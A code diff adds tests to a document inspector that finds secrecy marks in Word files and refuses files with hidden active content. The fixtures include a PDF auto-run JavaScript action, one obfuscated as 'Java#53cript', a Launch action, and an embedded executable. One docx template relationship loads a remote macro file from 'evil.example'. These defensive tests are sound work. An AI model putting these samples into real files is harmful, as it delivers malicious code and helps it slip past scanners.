@@ -106,6 +106,36 @@ describe('a file that is inspected', () => {
       ]);
   });
 
+  test('[R-SEC-01] words are found however the file writes them: another part, another encoding, CDATA, an embedded file', async () => {
+    const mark = '机密★10年';
+    const utf16 = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(paragraph(mark), 'utf16le')]);
+    const named = TYPES.replace(
+      '</Types>',
+      '<Override PartName="/word/main.dat" ContentType="application/x+xml"/></Types>',
+    );
+    for (const [way, file] of Object.entries({
+      cdata: docx(paragraph(`<![CDATA[${mark}]]>`)),
+      'another name': docx(paragraph('x'), { 'word/document9.xml': strToU8(paragraph(mark)) }),
+      'another ending': docx(paragraph('x'), {
+        'word/main.dat': strToU8(paragraph(mark)),
+        '[Content_Types].xml': strToU8(named),
+      }),
+      'UTF-16': docx(paragraph('x'), { 'word/document2.xml': utf16 }),
+      'GB 18030': docx(paragraph('x'), {
+        'word/document2.xml': Buffer.concat([
+          Buffer.from('<?xml version="1.0" encoding="gb18030"?><w:p>'),
+          Buffer.from('bbfac3dca1ef3130c4ea', 'hex'),
+          Buffer.from('</w:p>'),
+        ]),
+      }),
+      embedded: docx(paragraph('x'), { 'word/embeddings/a.docx': Buffer.from(docx(paragraph(mark))) }),
+    }))
+      expect([way, (await inspect('docx', file)).secrecyMark]).toEqual([way, true]);
+    // An object of another program stays unread, and says so.
+    const object = docx(paragraph('x'), { 'word/embeddings/oleObject1.bin': strToU8('Equation Native') });
+    expect(await inspect('docx', object)).toMatchObject({ wordsRead: false, secrecyMark: false });
+  });
+
   test('programs are refused wherever they hide: macros, controls, scripts, embedded programs', async () => {
     const x = strToU8('x');
     for (const [extension, bytes, said] of [
@@ -124,6 +154,43 @@ describe('a file that is inspected', () => {
       ['xlsx', compound('EncryptedPackage'), /不是 Excel|密码/],
       ['pdf', pdf('/OpenAction << /S /JavaScript /JS (app.alert(1)) >> '), /脚本/],
       ['pdf', pdf('/AA << /S /Launch /F (calc) >> '), /脚本/],
+      ['pdf', pdf('/OpenAction << /S /Java#53cript /JS (app.alert(1)) >> '), /脚本/],
+      ['pdf', pdf('/Names << /EmbeddedFiles << /Type /EmbeddedFile >> >> '), /附带/],
+      ['pdf', Buffer.concat([Buffer.from(pdf()), Buffer.from(zipSync({ 'a.exe': x }))]), /压缩包/],
+      [
+        'docx',
+        docx(paragraph('x'), {
+          'word/embeddings/oleObject1.bin': Buffer.from('MZ\u0090\u0000 program', 'latin1'),
+        }),
+        /程序/,
+      ],
+      [
+        'docx',
+        docx(paragraph('x'), {
+          'word/embeddings/oleObject1.bin': Buffer.from('\u0001Ole10Native', 'utf16le'),
+        }),
+        /程序/,
+      ],
+      ['docx', docx(paragraph('x'), { 'word/any.bin': Buffer.from('_VBA_PROJECT', 'utf16le') }), /宏/],
+      ['docx', docx(paragraph('x'), { 'word/embeddings/inner.docm': x }), /宏/],
+      [
+        'docx',
+        docx(paragraph('x'), {
+          'word/embeddings/inner.docx': Buffer.from(docx(paragraph('y'), { 'word/vbaProject.bin': x })),
+        }),
+        /宏/,
+      ],
+      ['docx', docx(`<!DOCTYPE d [<!ENTITY a "机密">]>${paragraph('&a;')}`), /实体/],
+      ['docx', docx(`${paragraph('x')}<w:altChunk r:id="rId9"/>`), /其他文件/],
+      [
+        'docx',
+        docx(paragraph('x'), {
+          'word/_rels/settings.xml.rels': strToU8(
+            '<Relationships><Relationship Id="r" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>',
+          ),
+        }),
+        /模板/,
+      ],
     ] as const)
       expect([extension, await refusal(extension, bytes)]).toEqual([extension, expect.stringMatching(said)]);
   });
